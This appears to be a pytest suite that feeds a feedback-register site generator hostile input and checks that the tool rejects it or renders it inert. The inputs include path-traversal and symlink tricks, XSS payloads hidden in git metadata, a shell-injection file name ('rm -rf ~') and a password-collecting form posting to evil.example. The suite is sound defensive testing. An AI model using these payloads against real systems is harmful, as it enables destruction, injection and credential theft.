"""Hostile input, contained: every file of tests/cases/hostile/ (and the attacks made here that cannot
be committed: links, pipes, huge files, hostile file names) is either *rejected* by `fbreg validate`
or *rendered inert* on the site, within a time and memory limit, never a crash.

Each case file names itself in its header::

    # path: items/2026/03/QF-2026-0101.yaml       where it goes in the case register
    # attack: what it tries
    # outcome: inert | rejected …
    # expect: code@line …                          the problems it must give, exactly (optional
                                                   for inert files: warnings they may give)

*Rejected*: errors naming the file, with a position (line and column ≥ 1). *Inert*: no errors, and
in every page, data file, feed and export made from it no markup, script, event handler or link
other than http(s)/mailto comes from the file, and its texts come back as typed. Rejected files are
also rendered as a build with ``fail_on_problems: false`` would: without a crash, and inert.

Validation and rendering run in a child process (tests/hostile_worker.py) under a 10-second limit
and a 1 GiB address-space limit, so a hang or a memory blow-up fails the test instead of the run.
"""
from __future__ import annotations

import codecs
import csv
import io
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from conftest import CASES, ROOT
from generator import markup, safeyaml
from htmlcheck import markup_problems, parse_html

HOSTILE = CASES / "hostile"
CORPUS = sorted(p for p in HOSTILE.iterdir() if p.suffix == ".yaml")
WORKER = ROOT / "tests" / "hostile_worker.py"
FBREG = Path(sys.executable).with_name("fbreg")
TIME_LIMIT = 10            # seconds for one validation and rendering
MEMORY_LIMIT = 1 << 30     # bytes of address space
TRACEBACK = "Traceback (most recent call last)"


# ---------------------------------------------------------------- the case files

def case_text(path: Path) -> str:
    """A case file as text, whatever its (possibly hostile) encoding, for reading its header."""
    data = path.read_bytes()
    if data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)):
        return data.decode("utf-16")
    if b"\x00" in data[:4]:
        return data.decode("utf-16-le", "replace")
    return data.decode("utf-8-sig", "replace")


def case_header(path: Path) -> dict:
    text = case_text(path)
    head = {key: value.strip() for key, value in re.findall(r"^# (path|outcome|expect|attack): (.*)$", text, re.M)}
    head["expect"] = Counter((code, int(line)) for code, line in
                             (token.split("@") for token in head.get("expect", "").split()))
    head["outcome"] = re.match(r"inert|rejected", head["outcome"]).group()
    assert head["outcome"] in ("inert", "rejected"), path
    assert head.get("attack"), f"{path.name}: say what it attacks"
    return head


def test_every_case_file_declares_itself():
    assert len(CORPUS) >= 30
    for path in CORPUS:
        head = case_header(path)
        if head["outcome"] == "rejected":
            assert head["expect"], f"{path.name}: a rejected file lists the problems it must give"


# ---------------------------------------------------------------- running the worker under limits

def _limits():
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))


def run_limited(args: list, timeout: float = TIME_LIMIT) -> subprocess.CompletedProcess:
    """``args`` in a child process with the time and memory limits; a hang fails the test."""
    try:
        return subprocess.run([str(a) for a in args], capture_output=True, text=True, timeout=timeout,
                              preexec_fn=_limits, cwd=ROOT)
    except subprocess.TimeoutExpired:
        pytest.fail(f"no answer within {timeout} s (a hang or a quadratic blow-up): {args[1:]}")


def worker(register: Path, only: list[Path] | None = None, force: bool = False,
           timeout: float = TIME_LIMIT) -> dict:
    args = [sys.executable, WORKER, register] + [x for p in only or [] for x in ("--only", p)]
    result = run_limited(args + (["--force"] if force else []), timeout)
    assert result.returncode == 0 and TRACEBACK not in result.stderr, f"crashed:\n{result.stderr[-3000:]}"
    return json.loads(result.stdout)


def make_register(root: Path) -> Path:
    register = root / "register"
    shutil.copytree(CASES / "register", register)
    return register


def place(case: Path, register: Path) -> Path:
    """Put a case file (hostile or not) where its ``# path:`` says."""
    dest = register / re.search(r"^# path: (\S+)", case_text(case), re.M).group(1)
    dest.parent.mkdir(parents=True, exist_ok=True)
    dest.write_bytes(case.read_bytes())
    return dest


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory, request):
    """Every selected case validated (and rendered) in parallel child processes, computed once."""
    wanted = {item.callspec.params["case"] for item in request.session.items
              if getattr(item, "callspec", None) and "case" in item.callspec.params
              and item.module is request.module}

    def one(case: Path):
        register = make_register(tmp_path_factory.mktemp(case.stem))
        dest = place(case, register)
        try:
            out = worker(register, only=[dest])
            # rendered as a build that ignores problems would: needed only when the file was read
            # (a file refused as bytes or YAML has no data to render) and had errors (else it was)
            unread = all(p["code"].startswith(("yaml-", "file-")) for p in out["problems"] if p["severity"] == "error")
            return dest, out, out if "html" in out or unread else worker(register, force=True)
        except BaseException as exc:  # pytest.fail inside a thread: re-raised in the test
            return dest, exc, None

    with ThreadPoolExecutor(max_workers=min(4, max(2, os.cpu_count() or 2))) as pool:
        cases = sorted(wanted)
        return dict(zip(cases, pool.map(one, cases)))


# ---------------------------------------------------------------- what "inert" means

@pytest.fixture(scope="module")
def baseline(tmp_path_factory) -> tuple[set, set]:
    """The elements and attributes the site's own page code makes (a benign register with every
    field used), plus what Markdown fields may hold: nothing else may appear."""
    register = make_register(tmp_path_factory.mktemp("baseline"))
    place(CASES / "valid" / "full-closed.yaml", register)
    out = worker(register)
    assert not out["problems"] and "html" in out, out
    tags, attributes = set(markup.ALLOWED_TAGS), {"href", "title", "rel"}
    for html in out["html"].values():
        for tag, attrs in parse_html(html).elements:
            tags.add(tag)
            attributes.update(name for name, _ in attrs)
    assert not {a for a in attributes if a.startswith("on")} and "style" not in attributes
    return tags - {"script"}, attributes


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)


def assert_inert(out: dict, baseline: tuple[set, set], exact_text: bool) -> None:
    """Everything rendered from the register in ``out`` (the worker's answer) is inert; with
    ``exact_text`` also the items' plain texts come back exactly as stored."""
    assert "render_error" not in out, out["render_error"]
    tags, attributes = baseline
    problems = []
    for path, html in out["html"].items():
        assert re.fullmatch(r"([A-Za-z0-9._-]+/)*index\.md", path) and ".." not in path, path
        # the submit page has its own script (configuration as JSON, tested in test_submitpage)
        allowed = tags | ({"script"} if path == "submit/index.md" else set())
        problems += [f"{path}: {p}" for p in markup_problems(html, allowed, attributes,
                                                             scripts_allowed=path == "submit/index.md")]
    for path, title in out["titles"].items():   # printed by the theme, partly unescaped
        if re.search(r"[<>&\"]", title):
            problems.append(f"title of {path}: {title!r}")
    assert not problems, "\n".join(problems[:40])

    files = out["files"]
    # data for the scripts and programs: valid JSON (no NaN/Infinity), texts exactly as stored
    def strict(text):
        return json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} in JSON"))
    rows = {r["id"]: r for r in strict(files["register/rows.json"])["rows"]}
    strict(files["overdue/deadlines.json"])
    exported = {i["id"]: i for i in strict(files["exports/register.json"])["items"]}
    for item_id, data in out["items"].items():
        if exact_text:
            assert rows[item_id]["title"] == data["title"]
            expected = dict(data)
            if isinstance(data.get("reporter"), dict) and data["reporter"].get("anonymous") is True:
                expected["reporter"] = {k: v for k, v in data["reporter"].items() if k != "ref"}
            assert {k: v for k, v in exported[item_id].items() if k != "milestones"} == expected
        # the item page shows its title as text, exactly
        page = out["html"][f"items/{item_id}/index.md"]
        heading = re.search(r'<h1 class="fbr-sheet-title">(.*?)</h1>', page, re.S)
        if exact_text:
            assert heading and "".join(parse_html(heading.group(1)).text) == data["title"]
            text = "".join(parse_html(page).text)
            for value in strings({k: data.get(k) for k in ("location", "tags")}):
                assert value in text, value
    # the CSV: formulas neutralised, texts otherwise exact
    table = list(csv.reader(io.StringIO(files["exports/register.csv"].lstrip("\ufeff"), newline="")))
    for row in table[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n") and not cell.lstrip().startswith(
                ("=", "+", "-", "@")), (row[0], cell)
    # the feeds: well-formed Atom, titles as text, no element or markup from the data
    for path, text in files.items():
        if path.endswith("feed.xml"):
            root = ET.fromstring(text.encode("utf-8"))
            assert all(e.tag.startswith("{http://www.w3.org/2005/Atom}") for e in root.iter()), path
            for summary in root.iter("{http://www.w3.org/2005/Atom}summary"):
                assert summary.get("type") == "text"


# ---------------------------------------------------------------- the corpus, one test per file

@pytest.mark.parametrize("case", CORPUS, ids=[p.stem for p in CORPUS])
def test_hostile_file(case, outcomes, baseline):
    head = case_header(case)
    dest, out, forced = outcomes[case]
    if isinstance(out, BaseException):
        raise out
    assert out["seconds"] < TIME_LIMIT
    problems = out["problems"]
    errors = [p for p in problems if p["severity"] == "error"]
    for p in problems:   # every problem names this file, a position and a message
        assert Path(p["path"]).name == dest.name and p["line"] >= 1 and p["col"] >= 1 and p["message"], p
        assert len(p["message"]) < 1000 and "\n" not in p["message"], p
    if head["outcome"] == "rejected":
        assert errors, f"{case.name} was not rejected"
        assert Counter((p["code"], p["line"]) for p in problems) == head["expect"]
    else:
        assert not errors, errors
        assert Counter((p["code"], p["line"]) for p in problems) == head["expect"]
        assert_inert(out, baseline, exact_text=True)
    # as a build that ignores problems (fail_on_problems: false) would render it
    if "html" in forced:
        assert_inert(forced, baseline, exact_text=head["outcome"] == "inert")


# ---------------------------------------------------------------- attacks made here

@pytest.fixture
def register(tmp_path) -> Path:
    return make_register(tmp_path)


ITEM = ("id: QF-2026-0201\ntitle: Made by the test\nreceived: 2026-03-05T10:00:00+00:00\nchannel: phone\n"
        "category: complaint\nseverity: minor\nstatus: new\ndescription: An item made by test_hostile.\n")


def errors_of(out: dict, name: str | None = None) -> list[tuple[str, int]]:
    return [(p["code"], p["line"]) for p in out["problems"]
            if p["severity"] == "error" and (name is None or Path(p["path"]).name == name)]


def test_an_item_that_is_a_link_to_a_system_file_is_refused_unread(register):
    month = register / "items/2026/03"
    (month / "QF-2026-0201.yaml").symlink_to("/etc/passwd")
    out = worker(register)
    assert errors_of(out, "QF-2026-0201.yaml") == [("file-symlink", 1)]
    assert "root:" not in json.dumps(out)


def test_linked_folders_are_refused_unread(register, tmp_path):
    outside = tmp_path / "outside/2026/04"
    outside.mkdir(parents=True)
    (outside / "QF-2026-0202.yaml").write_text(ITEM.replace("0201", "0202"))
    (register / "items/2026/04").symlink_to(outside)
    out = worker(register)
    assert errors_of(out, "04") == [("file-symlink", 1)] and "QF-2026-0202" not in json.dumps(out)
    shutil.rmtree(register / "items")
    (register / "items").symlink_to(tmp_path / "outside")
    out = worker(register)
    assert errors_of(out, "items") == [("file-symlink", 1)] and "QF-2026-0202" not in json.dumps(out)


def test_a_named_pipe_is_refused_without_blocking(register):
    os.mkfifo(register / "items/2026/03/QF-2026-0203.yaml")
    out = worker(register)
    assert errors_of(out, "QF-2026-0203.yaml") == [("file-unreadable", 1)]


def test_files_over_the_size_limit_are_refused_unread(register):
    month = register / "items/2026/03"
    (month / "QF-2026-0204.yaml").write_text(ITEM.replace("0201", "0204") + "analysis: '" + "x" * safeyaml.MAX_BYTES + "'\n")
    (month / "QF-2026-0205.yaml").write_bytes(b"title: " + b"A" * (1 << 20))          # a 1 MB line
    (month / "QF-2026-0206.yaml").write_bytes(b"a: [" + b"[" * 3_000_000 + b"\n")   # 3 MB of nesting
    out = worker(register)
    for n in ("0204", "0205", "0206"):
        assert errors_of(out, f"QF-2026-{n}.yaml") == [("file-too-large", 1)]


def test_a_title_of_100_000_characters_is_refused_with_a_short_message(register):
    (register / "items/2026/03/QF-2026-0207.yaml").write_text(
        ITEM.replace("0201", "0207").replace("title: Made by the test", "title: " + "<" * 100_000))
    out = worker(register)
    assert errors_of(out) == [("schema-too-long", 2)]
    assert len(out["problems"][0]["message"]) < 300


def test_a_huge_field_name_is_reported_in_a_bounded_message(register):
    key = "<script>" + "k" * 200_000
    (register / "items/2026/03/QF-2026-0208.yaml").write_text(ITEM.replace("0201", "0208") + f"? {key}\n: 1\n")
    out = worker(register)
    assert errors_of(out) == [("schema-unknown-field", 9)]
    assert len(out["problems"][0]["message"]) < 500


def test_many_unknown_fields_and_unsortable_lists_stay_fast(register):
    """20 000 unknown fields (each once looked up with difflib: 8 s) and a list of 12 000 mappings
    where unique items are required (jsonschema compared every pair: minutes)."""
    month = register / "items/2026/03"
    (month / "QF-2026-0209.yaml").write_text(ITEM.replace("0201", "0209") + "".join(f"k{i}x: 1\n" for i in range(20_000)))
    (month / "QF-2026-0210.yaml").write_text(ITEM.replace("0201", "0210") + "related:\n"
                                             + "".join(f"  - {{a: {i}}}\n" for i in range(12_000)))
    (month / "QF-2026-0211.yaml").write_text(ITEM.replace("0201", "0211") + "tags: ["
                                             + ",".join(str(i) if i % 2 else f"t{i}" for i in range(20_000)) + "]\n")
    out = worker(register)
    assert Counter(c for c, _ in errors_of(out, "QF-2026-0209.yaml")) == {"schema-unknown-field": 20_000}
    assert ("schema-too-long", 10) in errors_of(out, "QF-2026-0210.yaml")
    assert ("schema-too-long", 9) in errors_of(out, "QF-2026-0211.yaml")
    assert out["seconds"] < TIME_LIMIT / 2


HOSTILE_NAMES = {
    "traversal": "..%2F..%2Fetc%2Fpasswd.yaml",
    "markup": "<script>alert(1)<%2Fscript>.yaml",
    "newline": "x\nQF-2026-0001.yaml:1:1: id-file-name forged line.yaml",
    "option": "-rf --register=%2F.yaml",
    "bidi": "\u202egpj.yaml",
    "space": "QF-2026-0212 .yaml",
    "shell": "'; rm -rf ~ #.yaml",
}


def test_hostile_file_names_are_named_faithfully_and_on_one_line(register):
    """File names that are paths, markup, options, shell or a forged line of output: each is
    reported under its own name (id-file-name), one problem per line in every format."""
    names = list(HOSTILE_NAMES.values())
    for n, name in enumerate(names):
        (register / "items/2026/03" / name).write_text(ITEM.replace("0201", f"{220 + n:04d}"))
    out = worker(register)
    for name in names:
        mine = [p["code"] for p in out["problems"] if Path(p["path"]).name == name]
        assert mine == ["id-file-name"], (name, mine)
    assert len(out["problems"]) == len(names)
    text = run_limited([FBREG, "validate", "--register", register], timeout=30)
    assert text.returncode == 1 and TRACEBACK not in text.stderr
    lines = text.stdout.splitlines()
    assert len(lines) == len(names)      # one problem, one line: no name can forge another
    assert all(re.match(r"[^\n]+:1:5: id-file-name ", line) for line in lines), lines
    assert any("\\u202egpj.yaml" in line for line in lines) and any("x\\nQF-2026" in line for line in lines)
    github = run_limited([FBREG, "validate", "--register", register, "--format", "github"], timeout=30)
    assert len(github.stdout.splitlines()) == len(names) and github.returncode == 1


# ---------------------------------------------------------------- the real command line and build

def test_fbreg_validate_rejects_every_rejected_file_without_a_traceback(tmp_path):
    """The real command line over a register holding every rejected case file at once: exit 1, each
    file named, no traceback, in every output format."""
    register = make_register(tmp_path)
    rejected = [place(case, register).name for case in CORPUS if case_header(case)["outcome"] == "rejected"]
    for fmt in ("text", "json", "github"):
        result = run_limited([FBREG, "validate", "--register", register, "--format", fmt], timeout=60)
        assert result.returncode == 1, (fmt, result.stderr[-2000:])
        assert TRACEBACK not in result.stdout + result.stderr
        for name in rejected:
            assert name in result.stdout, (fmt, name)
    checked = json.loads(run_limited([FBREG, "validate", "--register", register, "--format", "json"], 60).stdout)
    assert {Path(p["path"]).name for p in checked["problems"] if p["severity"] == "error"} == set(rejected)


def test_the_site_built_from_every_inert_file_is_inert(tmp_path):
    """A real `fbreg build` (the theme, the plugin, search, sitemap) of a register holding every file
    that validates: no page, data file or feed carries anything from them that could run."""
    register = make_register(tmp_path)
    for case in CORPUS:
        if case_header(case)["outcome"] == "inert":
            place(case, register)
    (tmp_path / "docs").mkdir()
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: Hostile register\nsite_url: https://register.example.org/\n"
        f"theme:\n  name: material\n  custom_dir: {ROOT / 'site_theme'}\n  font: false\n"
        "plugins:\n  - search\n  - feedback-register:\n      register: register\n      history: false\n"
        "      as_of: '2026-11-21T09:00:00+00:00'\n")
    try:
        result = subprocess.run([str(FBREG), "build"], cwd=tmp_path, capture_output=True, text=True, timeout=300)
    except subprocess.TimeoutExpired:
        pytest.fail("the build did not finish in 300 s")
    assert result.returncode == 0, result.stderr[-3000:]
    site = tmp_path / "site"
    problems = []
    pages = list(site.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        html = page.read_text(encoding="utf-8")
        problems += [f"{page.relative_to(site)}: {p}" for p in markup_problems(html, None, None, scripts_allowed=True)]
        article = re.search(r'<article class="fbr-sheet".*?</article>', html, re.S)
        if article:      # the item's form: only what the form and Markdown make
            problems += [f"{page.relative_to(site)} (form): {p}"
                         for p in markup_problems(article.group(0), None, None)]
    assert not problems, "\n".join(problems[:40])
    item = (site / "items/QF-2026-0106/index.html").read_text(encoding="utf-8")
    assert "{{7*7}}" in item and "${7*7}" in item           # templates are text, never evaluated
    for path in site.rglob("*"):      # data files are data (texts as typed), and well-formed
        if path.suffix == ".json" and "assets" not in path.parts:
            json.loads(path.read_text(encoding="utf-8"), parse_constant=lambda c: pytest.fail(f"{c} in {path}"))
        if path.suffix == ".xml":
            ET.fromstring(path.read_bytes())


def test_hostile_git_metadata_is_text_on_the_item_page(tmp_path):
    """The processing record shows commit authors, approvers and references from git: a pull request
    controls its commits' author names and messages (and a forged merge its committer). Markup there
    stays text on the item page, and `fbreg audit` reports without a traceback."""
    root = tmp_path
    make_register(root)
    (root / "docs").mkdir()
    (root / "mkdocs.yml").write_text(
        "site_name: Hostile history\nsite_url: https://register.example.org/\n"
        f"theme:\n  name: material\n  custom_dir: {ROOT / 'site_theme'}\n  font: false\n"
        "plugins:\n  - search\n  - feedback-register:\n      register: register\n"
        "      as_of: '2026-11-21T09:00:00+00:00'\n")

    def commit(*args, author='"><script>alert("xss-author")</script>', email="x@evil.example",
               committer="Forger", committer_email="noreply@github.com", date="2026-03-05T12:00:00+00:00"):
        env = dict(os.environ, GIT_AUTHOR_NAME=author, GIT_AUTHOR_EMAIL=email, GIT_COMMITTER_NAME=committer,
                   GIT_COMMITTER_EMAIL=committer_email, GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=date)
        subprocess.run(["git", *args], cwd=root, env=env, check=True, capture_output=True)

    commit("init", "-q", "-b", "main")
    commit("add", "-A")
    commit("commit", "-q", "-m", "Register <img src=x onerror=alert(1)>")
    commit("checkout", "-q", "-b", "evil/<b>branch</b>")
    item = root / "register/items/2026/03/QF-2026-0001.yaml"
    item.write_text(item.read_text() + "location: Breakfast room\n")
    commit("commit", "-q", "-am", "Edit <svg onload=alert(1)>\n\nReviewed-by: <img src=x onerror=alert('xss')> <a@b>",
           date="2026-03-05T13:00:00+00:00")
    commit("checkout", "-q", "main")
    commit("merge", "-q", "--no-ff", "evil/<b>branch</b>", "-m",
           "Merge pull request #1 from evil/<script>alert('xss')</script>\n\nApproved-by: \"><svg onload=alert(1)>",
           author="<iframe src=javascript:alert(1)>", date="2026-03-05T14:00:00+00:00")
    # a squash merge whose approval comes from a trailer (git keeps < and > there, not in names)
    item.write_text(item.read_text() + "tags: [breakfast]\n")
    commit("commit", "-q", "-am", "Tag it (#2)\n\nReviewed-by: <img src=x onerror=alert('xss')> <r@evil.example>",
           date="2026-03-05T15:00:00+00:00")
    result = subprocess.run([str(FBREG), "build"], cwd=root, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0 and TRACEBACK not in result.stderr, result.stderr[-3000:]
    page = (root / "site/items/QF-2026-0001/index.html").read_text(encoding="utf-8")
    article = re.search(r'<article class="fbr-sheet".*?</article>', page, re.S).group(0)
    timeline = article.split("fbr-sec_timeline", 1)[1]         # the record, from the hostile history
    assert 'alert(&quot;xss-author&quot;)' in timeline           # git drops < > from names; the rest is text
    assert "iframe src=javascript:alert(1)" in timeline
    assert "img src=x onerror=alert(&#x27;xss&#x27;)&gt;" in timeline        # the trailer's approver, as text
    assert not markup_problems(article, None, None)
    assert not markup_problems(page, None, None, scripts_allowed=True)
    audit = subprocess.run([str(FBREG), "audit", "--register", "register", "--no-record"], cwd=root,
                           capture_output=True, text=True, timeout=120)
    assert audit.returncode in (0, 1) and TRACEBACK not in audit.stderr, audit.stderr
    assert "\x1b" not in audit.stdout


def test_a_committed_item_cache_cannot_change_what_the_register_says(register):
    """The YAML a reviewer reads is the truth: a cache file shipped with the change (``git add -f``)
    must not make validation or the site see another value for the same bytes."""
    import hashlib

    item = register / "items/2026/03/QF-2026-0001.yaml"
    key = hashlib.sha256(item.read_bytes()).hexdigest()
    forged = {"id": "QF-2026-0001", "title": "Not what the reviewer read", "received": "2026-03-02T08:15:00+00:00",
              "channel": "comment-card", "category": "complaint", "severity": "minor", "status": "assigned",
              "department": "kitchen", "description": "Forged through a committed cache file."}
    cache = register.parent / ".cache/fbreg/items-v1"
    cache.mkdir(parents=True)
    (cache / f"{key[:2]}.json").write_text(json.dumps({key: forged}))
    commit_everything(register.parent)          # what a pull request can ship: git add -f .cache
    out = worker(register, force=True)
    assert out["items"]["QF-2026-0001"]["title"] == "Cold breakfast served in the restaurant"
    assert "cache-committed" in [p["code"] for p in out["problems"]]


def test_a_committed_page_cache_cannot_put_markup_into_the_site(tmp_path):
    """Rendered item content is cached by the hash of its inputs. A file there with an item's key, as a
    pull request could ship it, must not reach the published page (here: the real cache files of a first
    build are replaced, which is what a precomputed key gives)."""
    make_register(tmp_path)
    (tmp_path / "docs").mkdir()
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: Cache\nsite_url: https://register.example.org/\n"
        f"theme:\n  name: material\n  custom_dir: {ROOT / 'site_theme'}\n  font: false\n"
        "plugins:\n  - search\n  - feedback-register:\n      register: register\n      history: false\n"
        "      as_of: '2026-11-21T09:00:00+00:00'\n")
    assert subprocess.run([str(FBREG), "build"], cwd=tmp_path, capture_output=True, timeout=300).returncode == 0
    pages = list((tmp_path / ".cache/fbreg").glob("pages-v*/*/*.html"))
    if not pages:
        pytest.skip("no rendered-page cache in this build")
    for page in pages:
        page.write_text('<form action="https://evil.example/xss"><input name="password"></form>')
    commit_everything(tmp_path)                  # what a pull request can ship: git add -f .cache
    build = subprocess.run([str(FBREG), "build"], cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert build.returncode == 1 and "cache-committed" in build.stderr + build.stdout   # refused outright
    html = (tmp_path / "site/items/QF-2026-0001/index.html").read_text(encoding="utf-8")
    assert "evil.example" not in html


def commit_everything(root: Path) -> None:
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C", str(root)]
    subprocess.run(git[:5] + ["init", "-q", str(root)], check=True)
    subprocess.run(git + ["add", "-A"], check=True)
    subprocess.run(git + ["add", "-f", ".cache"], check=True)
    subprocess.run(git + ["commit", "-qm", "a change that ships a cache"], check=True)


def test_a_committed_cache_is_read_around_and_leaves_no_scratch_behind(register, monkeypatch, tmp_path):
    """With .cache/ committed the history is read into a scratch folder of its own, which is removed
    afterwards (a CI runner that audits every change must not fill its temporary folder)."""
    from generator.history import load_history

    scratch_root = tmp_path / "tmp"
    scratch_root.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch_root))
    import tempfile
    monkeypatch.setattr(tempfile, "tempdir", None)     # tempfile reads TMPDIR again
    (register.parent / ".cache/fbreg").mkdir(parents=True)
    (register.parent / ".cache/fbreg/shipped.json").write_text("{}")
    commit_everything(register.parent)
    index = load_history(register)
    assert index is not None and index.files and any("committed" in w for w in index.warnings)
    assert list(scratch_root.iterdir()) == []
    assert not list((register.parent / ".cache/fbreg").glob("commits-*"))    # nor written into the committed one
